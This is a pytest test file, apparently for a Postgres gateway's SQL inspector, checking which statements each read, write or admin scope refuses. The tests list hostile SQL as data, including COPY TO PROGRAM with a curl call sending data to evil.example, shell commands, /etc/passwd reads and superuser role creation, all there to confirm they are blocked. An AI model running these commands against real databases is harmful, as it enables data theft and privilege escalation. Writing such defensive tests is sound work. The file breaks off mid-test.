"""sql.inspector: statement splitting, classification, mode floors, rules, fingerprints and the decision cache."""

from __future__ import annotations

import os
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlglot.dialects.postgres import Postgres

from gateway.pg.sql import functions as fn
from gateway.pg.sql import inspector as inspector_mod
from gateway.pg.sql.inspector import (
    Inspection,
    Inspector,
    decide,
    fingerprint,
    inspect,
    skeleton,
    skeleton_texts,
    statement_name,
)
from gateway.pg.sql.lex import (
    IDENT,
    NUMBER,
    OP,
    PUNCT,
    QIDENT,
    LexError,
    _long_operator_run,
    _operator_length,
    split,
    string_value,
    tokenize,
)
from gateway.policy import Decision, SqlPolicy, SqlRule, Verdict
from tests.rig.postgres import PgCluster

READ, WRITE, ADMIN = SqlPolicy("read"), SqlPolicy("write"), SqlPolicy("admin")
A = "allow"  # allowed (with or without alerts)
D = "deny"  # refused, any rule


def outcome(sql: str, policy: SqlPolicy, prepared: dict[str, Inspection] | None = None) -> Decision:
    return decide(inspect(sql), policy, prepared)


def expect(d: Decision, want: str, sql: str, mode: str) -> None:
    where = f"{mode}: {sql!r} -> {d}"
    if want == A:
        assert d.allowed, where
    elif want == D:
        assert not d.allowed, where
    else:
        assert not d.allowed and d.rule == want, where


# --- the bypass table: (sql, read, write, admin) ---------------------------------------------------

RO, WS, FN, ENC, UNP = "read-only", "write-scope", "function-not-allowed", "encoding", "unparseable"

BYPASSES = [
    # multi-statement smuggling, comments, case, quoting
    ("SELECT 1; DELETE FROM orders", RO, A, A),
    ("SELECT 1;DELETE FROM orders WHERE id = 1", RO, A, A),
    ("SeLeCt 1; /* x */ dElEtE FROM orders", RO, A, A),
    ("select 1 -- trailing comment\n; delete from orders", RO, A, A),
    ("SELECT 1 /* a /* nested ; */ still */; DELETE FROM orders", RO, A, A),
    ("SELECT '/* not a comment'; DELETE FROM orders; --*/", RO, A, A),
    ("/* /* */ SELECT 1; DELETE FROM orders", UNP, UNP, A),  # nested: never closed, server runs nothing
    ("SELECT $a$ $$; $a$; DELETE FROM orders", RO, A, A),
    ("SELECT 'a\\'; DELETE FROM orders; --'", RO, A, A),  # backslash is not an escape in ''
    ("SELECT e'it''s'; DELETE FROM orders", RO, A, A),
    ("SELECT E'\\\\'; DELETE FROM orders", RO, A, A),
    ("SELECT 1\r\n;\tUPDATE orders SET paid = true", RO, A, A),
    ("SELECT 1; COMMIT; INSERT INTO orders VALUES (1)", RO, A, A),
    ("SELECT 1; DROP TABLE orders", RO, WS, A),
    ("SELECT 1\x00; DELETE FROM orders", D, D, A),
    ("SELECT 1; TRUNCATE orders", RO, WS, A),
    ("select 1; /*x*/ merge into orders o using src s on o.id = s.id when matched then delete", RO, A, A),
    # data-modifying WITH
    ("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", RO, A, A),
    ("WITH u AS (UPDATE orders SET x = 1 WHERE id = 1 RETURNING id) SELECT id FROM u", RO, A, A),
    ("WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM i", RO, A, A),
    ("WITH a AS (SELECT 1), d AS (DELETE FROM orders WHERE id IN (SELECT * FROM a) RETURNING 1) SELECT 1", RO, A, A),
    ("WITH x AS (SELECT 1) DELETE FROM orders WHERE id IN (SELECT * FROM x)", RO, A, A),
    # SELECT INTO, row locks
    ("SELECT * INTO newtab FROM orders", RO, WS, A),
    ("SELECT 1 AS x INTO TEMP t2", RO, WS, A),
    ("SELECT * FROM orders FOR UPDATE", RO, A, A),
    ("SELECT * FROM orders FOR SHARE", RO, A, A),
    ("SELECT * FROM orders FOR NO KEY UPDATE", RO, A, A),
    ("SELECT * FROM orders FOR KEY SHARE", RO, A, A),
    ("SELECT * FROM orders FOR UPDATE OF orders NOWAIT", RO, A, A),
    ("SELECT * FROM orders FOR UPDATE SKIP LOCKED", RO, A, A),
    ("SELECT * FROM (SELECT * FROM orders FOR UPDATE) s", RO, A, A),
    # EXPLAIN
    ("EXPLAIN ANALYZE DELETE FROM orders", RO, A, A),
    ("EXPLAIN (ANALYZE) UPDATE orders SET a = 1", RO, A, A),
    ("EXPLAIN (ANALYZE true, BUFFERS) INSERT INTO orders VALUES (1)", RO, A, A),
    ("EXPLAIN (ANALYZE false) DELETE FROM orders", RO, A, A),  # option values are not evaluated
    ("EXPLAIN ANALYSE VERBOSE DELETE FROM orders", RO, A, A),
    ("EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING 1) SELECT 1", RO, A, A),
    ("EXPLAIN ANALYZE SELECT set_config('a', 'b', false)", FN, FN, A),
    ("EXPLAIN ANALYZE SELECT * INTO x FROM orders", RO, WS, A),
    ("EXPLAIN DROP TABLE orders", RO, WS, A),
    ("EXPLAIN NOTIFY jobs", RO, A, A),  # not explainable: stays what it is
    # identity and read-only switches
    ("SET ROLE postgres", RO, WS, A),
    ("SET LOCAL ROLE postgres", RO, WS, A),
    ("set session role admin", RO, WS, A),
    ("SET role = 'postgres'", RO, WS, A),
    ('SET "ROLE" TO postgres', RO, WS, A),
    ("SET ROLE NONE", RO, WS, A),
    ("SET SESSION AUTHORIZATION postgres", RO, WS, A),
    ("SET SESSION AUTHORIZATION DEFAULT", RO, WS, A),
    ("SET LOCAL SESSION AUTHORIZATION postgres", RO, WS, A),
    ("SET session_authorization = 'postgres'", RO, WS, A),
    ("SET default_transaction_read_only = off", RO, A, A),
    ("SET default_transaction_read_only TO DEFAULT", RO, A, A),
    ("SET SESSION default_transaction_read_only = false", RO, A, A),
    ("SET transaction_read_only = off", RO, A, A),
    ("SET LOCAL transaction_read_only TO DEFAULT", RO, A, A),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", RO, A, A),
    ("BEGIN READ WRITE", RO, A, A),
    ("begin work isolation level serializable, read write", RO, A, A),
    ("START TRANSACTION READ WRITE", RO, A, A),
    ("SET TRANSACTION READ WRITE", RO, A, A),
    ("RESET ALL", RO, A, A),
    ("RESET ROLE", RO, WS, A),
    ("RESET SESSION AUTHORIZATION", RO, WS, A),
    ("RESET default_transaction_read_only", RO, A, A),
    ("RESET transaction_read_only", RO, A, A),
    ("DISCARD ALL", RO, WS, A),
    ("SET app.tenant_id = '42'", RO, WS, A),
    ("SET session_replication_role = replica", RO, WS, A),
    ("SET log_statement = 'none'", RO, WS, A),
    ("SET synchronous_commit = off", RO, A, A),
    ("SET search_path = public, pg_catalog", RO, A, A),  # demoted pg_catalog: upper() could be someone's
    # code, procedures, prepared statements, cursors
    ("DO $$ BEGIN DELETE FROM orders; END $$", RO, WS, A),
    ("DO LANGUAGE plpgsql 'BEGIN NULL; END'", RO, WS, A),
    ("CALL archive_orders(30)", RO, A, A),
    ("PREPARE p AS DELETE FROM orders", RO, A, A),
    ("PREPARE p(int) AS UPDATE orders SET a = $1", RO, A, A),
    ("PREPARE p AS WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", RO, A, A),
    ("EXECUTE p", RO, WS, A),  # no `prepared` context: unknown statement
    ("EXECUTE p(1)", RO, WS, A),
    ("DECLARE c CURSOR FOR DELETE FROM orders RETURNING *", RO, A, A),
    ("DECLARE c SCROLL CURSOR FOR SELECT * FROM orders FOR UPDATE", RO, A, A),
    ("PREPARE TRANSACTION 'x'", RO, A, A),
    ("COMMIT PREPARED 'x'", RO, WS, A),
    ("ROLLBACK PREPARED 'x'", RO, WS, A),
    # COPY
    ("COPY orders TO '/tmp/orders.csv'", RO, WS, A),
    ("COPY orders FROM '/etc/passwd'", RO, WS, A),
    ("COPY orders TO PROGRAM 'curl -d @- evil.example'", RO, WS, A),
    ("COPY (SELECT 1) TO PROGRAM 'sh -c id'", RO, WS, A),
    ("COPY orders FROM PROGRAM 'id'", RO, WS, A),
    ("COPY orders (id, total) FROM '/tmp/x' WITH (FORMAT csv)", RO, WS, A),
    ("COPY orders FROM STDIN", RO, A, A),
    ("COPY orders FROM STDIN WITH (FORMAT csv) WHERE set_config('a', 'b', false) IS NOT NULL", RO, FN, A),
    ("COPY (DELETE FROM orders RETURNING *) TO STDOUT", RO, A, A),
    ("COPY (SELECT set_config('a', 'b', false)) TO STDOUT", FN, FN, A),
    # side-effect functions in a SELECT
    ("SELECT set_config('search_path', 'evil', false)", FN, FN, A),
    ("SELECT pg_terminate_backend(1)", FN, FN, A),
    ("SELECT pg_cancel_backend(1)", FN, FN, A),
    ("SELECT pg_reload_conf()", FN, FN, A),
    ("SELECT lo_import('/etc/passwd')", FN, FN, A),
    ("SELECT lo_export(16400, '/tmp/x')", FN, FN, A),
    ("SELECT lo_unlink(16400)", FN, A, A),
    ("SELECT lo_create(0)", FN, A, A),
    ("SELECT pg_read_file('/etc/passwd')", FN, FN, A),
    ("SELECT pg_read_binary_file('global/pg_control')", FN, FN, A),
    ("SELECT pg_ls_dir('.')", FN, FN, A),
    ("SELECT pg_stat_file('postgresql.conf')", FN, FN, A),
    ("SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", FN, FN, A),
    ("SELECT dblink_exec('dbname=prod', 'DELETE FROM orders')", FN, FN, A),
    ("SELECT nextval('orders_id_seq')", FN, A, A),
    ("SELECT setval('orders_id_seq', 1)", FN, A, A),
    ("SELECT pg_advisory_lock(1)", FN, A, A),
    ("SELECT pg_try_advisory_xact_lock(1)", FN, A, A),
    ("SELECT pg_notify('jobs', 'run')", FN, A, A),
    ("SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, true, '')", FN, FN, A),
    ("SELECT ts_stat('SELECT vector FROM docs')", FN, FN, A),
    ("SELECT pg_create_restore_point('x')", FN, FN, A),
    ("SELECT pg_switch_wal()", FN, FN, A),
    ("SELECT pg_rotate_logfile()", FN, FN, A),
    ("SELECT pg_stat_reset()", FN, FN, A),
    ("SELECT pg_ls_waldir()", FN, FN, A),
    ("SELECT some_user_function(1)", FN, A, A),
    # locks, notifications, server administration, DDL, DCL
    ("LOCK TABLE orders", RO, A, A),
    ("LOCK orders IN ACCESS EXCLUSIVE MODE NOWAIT", RO, A, A),
    ("NOTIFY jobs", RO, A, A),
    ("NOTIFY jobs, 'payload'", RO, A, A),
    ("ALTER SYSTEM SET work_mem = '1GB'", RO, WS, A),
    ("VACUUM orders", RO, WS, A),
    ("VACUUM (FULL, ANALYZE) orders", RO, WS, A),
    ("ANALYZE orders", RO, WS, A),
    ("ANALYSE", RO, WS, A),
    ("REINDEX TABLE orders", RO, WS, A),
    ("CHECKPOINT", RO, WS, A),
    ("CLUSTER orders USING orders_pkey", RO, WS, A),
    ("REFRESH MATERIALIZED VIEW CONCURRENTLY mv", RO, WS, A),
    ("TRUNCATE orders", RO, WS, A),
    ("TRUNCATE TABLE orders, customers CASCADE", RO, WS, A),
    ("MERGE INTO orders o USING src s ON o.id = s.id WHEN MATCHED THEN DELETE", RO, A, A),
    ("CREATE TEMP TABLE x AS SELECT * FROM orders", RO, WS, A),
    ("CREATE TEMPORARY TABLE x (a int)", RO, WS, A),
    ("CREATE INDEX CONCURRENTLY ON orders (customer_id)", RO, WS, A),
    ("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", RO, WS, A),
    ("DROP TABLE orders", RO, WS, A),
    ("ALTER TABLE orders ADD COLUMN note text", RO, WS, A),
    ("SECURITY LABEL FOR selinux ON TABLE orders IS 'system_u:object_r:sepgsql_table_t:s0'", RO, WS, A),
    ("COMMENT ON TABLE orders IS 'x'", RO, WS, A),
    ("LOAD 'auto_explain'", RO, WS, A),
    ("IMPORT FOREIGN SCHEMA public FROM SERVER other INTO local", RO, WS, A),
    ("GRANT SELECT ON orders TO bob", RO, WS, A),
    ("REVOKE ALL ON orders FROM PUBLIC", RO, WS, A),
    ("CREATE ROLE mallory SUPERUSER LOGIN", RO, WS, A),
    ("ALTER ROLE app_ro SUPERUSER", RO, WS, A),
    ("ALTER USER app_ro WITH PASSWORD 'x'", RO, WS, A),
    ("DROP ROLE app_ro", RO, WS, A),
    ("ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC", RO, WS, A),
    ("CREATE EXTENSION dblink", RO, WS, A),
    ("INSERT INTO orders (id) VALUES (1)", RO, A, A),
    ("UPDATE orders SET paid = true WHERE id = 1", RO, A, A),
    ("DELETE FROM orders WHERE id = 1", RO, A, A),
    # encodings and string syntax: refused in every scope
    ("SET client_encoding = 'SJIS'", ENC, ENC, ENC),
    ("SET NAMES 'GBK'", ENC, ENC, ENC),
    ("SET client_encoding TO big5", ENC, ENC, ENC),
    ("SET LOCAL client_encoding = sjis", ENC, ENC, ENC),
    ("SET client_encoding = E'UTF8'", A, A, A),  # E'' is decoded: it is UTF8
    ("SET client_encoding = E'\\123JIS'", ENC, ENC, ENC),  # E'\123JIS' is SJIS
    ("SET client_encoding = U&'\\0053JIS'", ENC, ENC, ENC),
    ("SET client_encoding = U&'!0053JIS' UESCAPE '!'", ENC, ENC, ENC),
    ("SET standard_conforming_strings = off", ENC, ENC, ENC),
    ("SET standard_conforming_strings TO 'false'", ENC, ENC, ENC),
    ("SELECT set_config('client_encoding', 'SJIS', false)", ENC, ENC, ENC),
    ("SELECT set_config('Standard_Conforming_Strings', 'off', false)", ENC, ENC, ENC),
    ("SELECT set_config(name, 'x', false) FROM settings_to_apply", FN, FN, A),  # 'x' is unsafe for neither
    # pg_dump 15.8+ (CVE-2024-7348): the name is a column, the value a literal no lexing setting takes
    ("SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'x'", FN, FN, A),
    ("SELECT set_config(name, 'SJIS', false) FROM pg_settings", ENC, ENC, ENC),
    ("SELECT set_config(name, 'Shift-JIS', false) FROM pg_settings", ENC, ENC, ENC),
    ("SELECT set_config(name, 'euc_tw', false) FROM pg_settings", ENC, ENC, ENC),
    ("SELECT set_config(name, 'OFF', false) FROM pg_settings", ENC, ENC, ENC),
    ("SELECT set_config(name, 'fal', false) FROM pg_settings", ENC, ENC, ENC),
    ("SELECT set_config(name, ' 0', false) FROM pg_settings", ENC, ENC, ENC),
    ("SELECT set_config(lower(name), 'n', false) FROM pg_settings", ENC, ENC, ENC),
    ("SELECT set_config(name, value, false) FROM pg_settings", ENC, ENC, ENC),
    ("SELECT set_config(name, 'a' || 'b', false) FROM pg_settings", ENC, ENC, ENC),
    ("SELECT set_config(name, 'latin1', false) FROM pg_settings", FN, FN, A),
    ("SET client_encoding TO DEFAULT", RO, A, A),
    ("RESET client_encoding", RO, A, A),
    # unparseable: fail closed below admin
    ("SELEC 1", UNP, UNP, A),
    ("SELECT FROM WHERE (", UNP, UNP, A),
    ("FROBNICATE orders", UNP, UNP, A),
    ("SELECT 'unterminated", UNP, UNP, A),
    ("SELECT 1 +", UNP, UNP, A),
    ('SELECT U&"d\\0061t\\+000061" FROM orders', A, A, A),  # decoded: the column "data"
    ('SELECT U&"\\0070g_terminate_backend"(1)', FN, FN, A),
    ('SELECT u&"pg_terminate_backend"(1)', FN, FN, A),
    ("SELECT U&\"!0070g_terminate_backend\" UESCAPE '!' (1)", FN, FN, A),
    ("SELECT U&\"pg_terminate_backend\" /* c */ uescape /* c */ '!'(1)", FN, FN, A),
    ("SELECT U&\"set_confi\\0067\"('role', 'x', false)", FN, FN, A),
    ('SELECT "pg_terminate_""backend"(1)', FN, A, A),  # the name is pg_terminate_"backend
    ('SELECT * FROM "my""table", U&"x\\0022y", E\'\\x41\', $t$a$$b$t$', A, A, A),
    ("SET x FROM CURRENT", UNP, UNP, A),
    ("SELECT 1 \\; DELETE FROM orders", UNP, D, A),  # psql's \; is not SQL: a stray backslash
    ("SELECT evil.exists(1), evil.text('x')", FN, A, A),  # after a dot, keywords name functions
    ("PREPARE", UNP, UNP, A),
    ("EXPLAIN", UNP, UNP, A),
]


@pytest.mark.parametrize(("sql", "read", "write", "admin"), BYPASSES)
def test_mode_floor(sql: str, read: str, write: str, admin: str) -> None:
    for policy, want in ((READ, read), (WRITE, write), (ADMIN, admin)):
        expect(outcome(sql, policy), want, sql, policy.mode)


ALLOWED_READS = [
    "SELECT abalance FROM pgbench_accounts WHERE aid = 123",
    "SELECT 1 /* /* */ DELETE FROM orders */",  # nested comment: the DELETE is inside it
    "/* /* */ DELETE FROM orders */ SELECT 1",
    "SELECT $$; DELETE FROM orders; $$",
    "SELECT E'\\'; DELETE FROM orders; --'",  # one E'' string
    'SELECT 1 AS "; DELETE FROM orders; "',
    "SELECT 'a'\n'; DELETE FROM orders'",  # quote continuation: one literal
    "SELECT 1 -- ; DELETE FROM orders",
    "EXPLAIN SELECT * FROM orders",
    "EXPLAIN ANALYZE SELECT * FROM orders",
    "EXPLAIN DELETE FROM orders",  # planned, not run
    "EXPLAIN (COSTS off) UPDATE orders SET a = 1",
    "PREPARE p AS SELECT * FROM orders WHERE id = $1",
    "PREPARE q (int, text) AS SELECT $1, $2",
    "DECLARE c CURSOR FOR SELECT * FROM orders",
    "DECLARE c BINARY INSENSITIVE NO SCROLL CURSOR WITH HOLD FOR SELECT 1",
    "FETCH 10 FROM c",
    "FETCH NEXT c",
    "MOVE FORWARD 5 IN c",
    "CLOSE c",
    "CLOSE ALL",
    "COPY orders TO STDOUT",
    "COPY BINARY orders TO STDOUT",
    "COPY (SELECT * FROM orders WHERE paid) TO STDOUT WITH (FORMAT csv, HEADER)",
    "COPY orders (id, total) TO STDOUT CSV HEADER",
    "SET search_path = pg_catalog, public",
    "SET search_path TO 'app', \"$user\"",
    "SET statement_timeout = '5s'",
    "SET LOCAL statement_timeout TO 1000",
    "SET application_name = 'psql'",
    "SET TIME ZONE 'UTC'",
    "SET work_mem = '64MB'",
    "SET client_encoding = 'UTF8'",
    "SET NAMES 'utf-8'",
    "SET client_encoding TO unicode",
    "SET standard_conforming_strings = on",
    "RESET statement_timeout",
    "SHOW search_path",
    "SHOW ALL",
    "BEGIN",
    "BEGIN READ ONLY",
    "BEGIN ISOLATION LEVEL REPEATABLE READ",
    "START TRANSACTION READ ONLY, DEFERRABLE",
    "SET TRANSACTION READ ONLY",
    "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
    "COMMIT",
    "COMMIT AND CHAIN",
    "END",
    "ROLLBACK",
    "ABORT",
    "SAVEPOINT s1",
    "RELEASE SAVEPOINT s1",
    "ROLLBACK TO SAVEPOINT s1",
    "DEALLOCATE p",
    "DEALLOCATE ALL",
    "DISCARD PLANS",
    "LISTEN jobs",
    "UNLISTEN *",
    "",
    "   \n\t",
    "-- only a comment",
    "/* only a comment */",
    ";",
    ";;  ;",
    "SELECT 1; SELECT 2;",
    "SELECT pg_sleep(0.1)",
    "SELECT txid_current_if_assigned()",
    "SELECT set_config FROM settings",  # a column, not a call
    "VALUES (1), (2)",
    "TABLE orders",
    "(SELECT 1) UNION (SELECT 2)",
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r",
    "SELECT x FROM t WHERE j ? 'k' AND j ?| ARRAY['a'] AND j @> '{}'",
    "SELECT * FROM t WHERE x = ALL (ARRAY[1]) AND y = ANY ('{1}')",
]


@pytest.mark.parametrize("sql", ALLOWED_READS)
def test_allowed_in_read(sql: str) -> None:
    expect(outcome(sql, READ), A, sql, "read")
    expect(outcome(sql, WRITE), A, sql, "write")
    expect(outcome(sql, ADMIN), A, sql, "admin")


def test_deny_names_the_offending_statement() -> None:
    d = outcome("SELECT 1; SELECT 2; DELETE FROM orders WHERE id = 1", READ)
    assert d == Decision.deny("read-only", "DELETE is not allowed in read scope")
    d = outcome("SELECT 1; WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", READ)
    assert d.rule == "read-only" and d.reason == "DELETE in a WITH clause is not allowed in read scope"
    assert outcome("SELECT upper(x), pg_terminate_backend(1) FROM t", READ).reason == (
        "pg_terminate_backend() is not allowed in read scope"
    )


def test_unknown_mode_is_read() -> None:
    expect(outcome("DELETE FROM orders", SqlPolicy("superuser")), RO, "DELETE", "bogus")


# --- functions -------------------------------------------------------------------------------------

GOOD_CALLS = [
    "upper(name)",
    "count(*)",
    "coalesce(a, b, 'x')",
    "now()",
    "date_trunc('day', created_at)",
    "jsonb_extract_path_text(data, 'a', 'b')",
    "string_agg(name, ', ' ORDER BY name)",
    "pg_catalog.upper(name)",
    '"upper"(name)',
    "pg_size_pretty(pg_relation_size('orders'))",
    "has_table_privilege('orders', 'SELECT')",
    "trim(both ' ' from name)",
    "substring(name from 1 for 2)",
    "extract(year from created_at)",
    "cast(total AS numeric(10, 2))",
    "pg_stat_get_numscans(16384)",
]
BAD_CALLS = [
    "set_config('role', 'postgres', false)",
    "pg_terminate_backend(1)",
    "lo_import('/etc/passwd')",
    "nextval('s')",
    "dblink_exec('dbname=prod', 'DROP TABLE orders')",
    "(1).pg_terminate_backend",  # attribute notation: pg_terminate_backend(1)
    '(0)."lo_create"',
    "('SELECT 1'::text).ts_stat",
    "txid_current()",
]
PLACES = [
    "SELECT {f}",
    "SELECT * FROM (SELECT {f}) s",
    "WITH c AS (SELECT {f}) SELECT * FROM c",
    "SELECT id FROM orders WHERE id = ({f})::text::int",
    "SELECT id FROM orders ORDER BY {f}",
    "SELECT upper(({f})::text)",
    "SELECT * FROM orders, LATERAL (SELECT {f}) l",
    "SELECT * FROM {f}",
    "SELECT * FROM orders CROSS JOIN LATERAL {f} AS x",
    "SELECT 1 FROM orders GROUP BY 1 HAVING count({f}) > 0",
    "SELECT CASE WHEN true THEN {f} END",
    "VALUES ({f})",
    "SELECT 1 FROM orders o JOIN orders p ON ({f}) IS NOT NULL",
    "SELECT coalesce(null, {f})",
    "SELECT EXISTS (SELECT {f})",
    "SELECT ARRAY(SELECT {f})",
    "SELECT count(*) OVER (ORDER BY {f}) FROM orders",
    "SELECT 1 LIMIT (SELECT count({f}))",
    "SELECT * FROM ROWS FROM (generate_series(1, 2), {f}) AS x(a, b)",
    "SELECT DISTINCT ON ({f}) 1",
    "SELECT 1 WHERE 1 IN (SELECT 1 FROM orders WHERE ({f}) IS NULL)",
    "DECLARE c CURSOR FOR SELECT {f}",
    "PREPARE p AS SELECT {f}",
    "EXPLAIN ANALYZE SELECT {f}",
    "COPY (SELECT {f}) TO STDOUT",
]


@pytest.mark.parametrize("call", GOOD_CALLS)
def test_allowlisted_functions_pass(call: str) -> None:
    sql = f"SELECT {call} FROM orders"
    expect(outcome(sql, READ), A, sql, "read")


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("call", BAD_CALLS)
def test_side_effect_functions_denied_wherever_they_hide(call: str, place: str) -> None:
    sql = place.format(f=call)
    # `FROM (1).f` is no SQL (a FROM item is a name or a call): refused as unparseable
    in_from = call.startswith("(") and any(w in place for w in ("FROM {f}", "LATERAL {f}", "ROWS FROM"))
    expect(outcome(sql, READ), D if in_from else FN, sql, "read")


@pytest.mark.parametrize(
    "call",
    [
        "pg_catalog.set_config('role', 'x', false)",
        "\"pg_catalog\".\"set_config\"('role', 'x', false)",
        "PG_CATALOG.SET_CONFIG('role', 'x', false)",
        "public.dblink_exec('dbname=prod', 'DROP TABLE orders')",
        "\"set_config\"('role', 'x', false)",
    ],
)
def test_qualified_and_quoted_denied_functions(call: str) -> None:
    for policy in (READ, WRITE):
        expect(outcome(f"SELECT {call}", policy), FN, call, policy.mode)


def test_functions_outside_pg_catalog_are_not_the_builtins() -> None:
    expect(outcome("SELECT myschema.upper('x')", READ), FN, "myschema.upper", "read")
    expect(outcome("SELECT \"Upper\"('x')", READ), FN, '"Upper"', "read")  # quoted: a different function
    assert outcome("SELECT myschema.upper('x')", WRITE).allowed


def test_extra_functions() -> None:
    policy = SqlPolicy("read", extra_functions=frozenset({"app_report", "billing.total"}))
    assert decide(inspect("SELECT app_report(1), reports.app_report(2)"), policy).allowed
    assert decide(inspect("SELECT billing.total(1)"), policy).allowed
    assert not decide(inspect("SELECT other.total(1)"), policy).allowed
    write = SqlPolicy("write", extra_functions=frozenset({"pg_cancel_backend"}))
    assert decide(inspect("SELECT pg_cancel_backend(42)"), write).allowed


def test_functions_and_tables_are_reported() -> None:
    s = inspect("SELECT upper(c.name), count(*) FROM public.orders o JOIN customers c ON c.id = o.cid").statements[0]
    assert s.kind == "read" and s.command == "SELECT" and s.needs == "read"
    assert s.tables == {"public.orders", "customers"}
    assert {"upper", "count"} <= s.functions
    s = inspect("SELECT * FROM \"Orders\", pg_catalog.set_config('a', 'b', false)").statements[0]
    assert "Orders" in s.tables and "pg_catalog.set_config" in s.functions


def test_sqlglot_special_function_parsers_meet_the_allowlist() -> None:
    """A name sqlglot parses specially (no position) must still be checked: guards sqlglot upgrades."""
    for name in Postgres.parser_class.FUNCTION_PARSERS:
        for args in ("x", "x, y", "x AS int"):
            d = outcome(f"SELECT {name.lower()}({args}) FROM t", READ)
            if d.allowed:
                assert name.lower() in fn.READ_FUNCTIONS, name


def test_function_lists_do_not_overlap() -> None:
    assert not fn.READ_FUNCTIONS & fn.WRITE_DENIED_FUNCTIONS
    assert not [f for f in fn.READ_FUNCTIONS if f.startswith(fn.WRITE_DENIED_PREFIXES)]
    assert {"pg_sleep", "txid_current_if_assigned", "now", "version"} <= fn.READ_FUNCTIONS
    assert not {"query_to_xml", "set_config", "nextval", "lo_import", "pg_read_file"} & fn.READ_FUNCTIONS
    assert not {"txid_current", "pg_current_xact_id", "cursor_to_xml", "ts_stat", "lo_create"} & fn.READ_FUNCTIONS


# --- EXECUTE and prepared statements ---------------------------------------------------------------


def test_execute_follows_the_prepared_statement() -> None:
    prepared = inspect("PREPARE p AS SELECT * FROM orders WHERE id = $1; PREPARE w AS DELETE FROM orders").prepares
    assert set(prepared) == {"p", "w"}
    assert outcome("EXECUTE p(1)", READ, prepared).allowed
    expect(outcome("EXECUTE w", READ, prepared), RO, "EXECUTE w", "read")
    assert outcome("EXECUTE w", WRITE, prepared).allowed
    expect(outcome("EXECUTE nope", READ, prepared), RO, "EXECUTE nope", "read")
    expect(outcome("EXECUTE nope", WRITE, prepared), WS, "EXECUTE nope", "write")
    # Parse messages: the front end stores the inspection of the message's query under its name.
    parsed = {"s1": inspect("SELECT 1"), "s2": inspect("UPDATE orders SET a = 1")}
    assert outcome("EXECUTE s1", READ, parsed).allowed
    assert not outcome("EXECUTE s2", READ, parsed).allowed
    # Parameters are expressions: they meet the allowlist too.
    expect(outcome("EXECUTE p(set_config('role', 'x', false))", READ, prepared), FN, "param", "read")
    expect(outcome("EXECUTE p(pg_terminate_backend(1))", WRITE, prepared), FN, "param", "write")


def test_statement_names_fold_like_the_server() -> None:
    assert statement_name(inspect("EXECUTE MyPlan(1)").statements[0]) == "myplan"
    assert statement_name(inspect('EXECUTE "MyPlan"').statements[0]) == "MyPlan"
    assert statement_name(inspect("DEALLOCATE PREPARE p1").statements[0]) == "p1"
    assert statement_name(inspect("PREPARE P2 AS SELECT 1").statements[0]) == "p2"
    assert statement_name(inspect("SELECT 1").statements[0]) is None
    assert inspect("PREPARE TRANSACTION 'x'").prepares == {}


def test_execute_rules_see_the_prepared_statements() -> None:
    policy = SqlPolicy("write", rules=(SqlRule("no-orders", Verdict.DENY, tables=frozenset({"orders"})),))
    prepared = {"w": inspect("DELETE FROM orders WHERE id = $1")}
    assert decide(inspect("EXECUTE w(1)"), policy, prepared).rule == "no-orders"


# --- rules and detections --------------------------------------------------------------------------


def test_rules_by_table_kind_function_and_pattern() -> None:
    rules = (
        SqlRule("no-orders", Verdict.DENY, kinds=frozenset({"write"}), tables=frozenset({"orders"})),
        SqlRule("no-ddl", Verdict.KILL, kinds=frozenset({"ddl"})),
        SqlRule("slow", Verdict.ALERT, functions=frozenset({"pg_sleep"})),
        SqlRule("secrets", Verdict.DENY, pattern=re.compile("password", re.IGNORECASE)),
    )
    policy = SqlPolicy("admin", rules=rules)
    assert decide(inspect("DELETE FROM public.orders WHERE id = 1"), policy).rule == "no-orders"
    assert decide(inspect("SELECT * FROM orders"), policy).allowed
    assert decide(inspect("DROP TABLE customers"), policy) == Decision.kill("no-ddl", "rule no-ddl: DROP TABLE")
    assert decide(inspect("SELECT pg_sleep(1)"), policy) == Decision.allow("slow")
    assert decide(inspect("SELECT * FROM users WHERE PASSWORD = 'x'"), policy).rule == "secrets"
    no_truncate = SqlPolicy("admin", rules=(SqlRule("no-truncate", Verdict.DENY, kinds=frozenset({"truncate"})),))
    assert decide(inspect("TRUNCATE t"), no_truncate).rule == "no-truncate"  # kinds also match commands
    assert decide(inspect("DROP TABLE t"), no_truncate).allowed


def test_kill_rule_beats_the_floor_and_floor_beats_rules() -> None:
    policy = SqlPolicy("read", rules=(SqlRule("ddl-kills", Verdict.KILL, kinds=frozenset({"ddl"})),))
    assert decide(inspect("DROP TABLE orders"), policy).verdict is Verdict.KILL
    policy = SqlPolicy("read", rules=(SqlRule("watch", Verdict.ALERT, tables=frozenset({"orders"})),))
    assert decide(inspect("DELETE FROM orders"), policy).rule == "read-only"


def test_detections() -> None:
    policy = SqlPolicy("write", sensitive_tables=frozenset({"customers"}))
    assert decide(inspect("DELETE FROM orders"), policy) == Decision.allow("write-without-where:orders")
    assert decide(inspect("UPDATE orders SET a = 1 WHERE id = 2"), policy) == Decision.allow()
    d = decide(inspect("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d"), policy)
    assert d.verdict is Verdict.ALERT and d.alerts[0].startswith("write-without-where:")
    assert decide(inspect("SELECT * FROM public.customers"), policy) == Decision.allow("sensitive-table:customers")
    assert decide(inspect("EXPLAIN DELETE FROM orders"), policy) == Decision.allow()  # not run
    quiet = SqlPolicy("write", alert_write_without_where=False)
    assert decide(inspect("DELETE FROM orders"), quiet) == Decision.allow()


# --- statements and the lexer ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "texts"),
    [
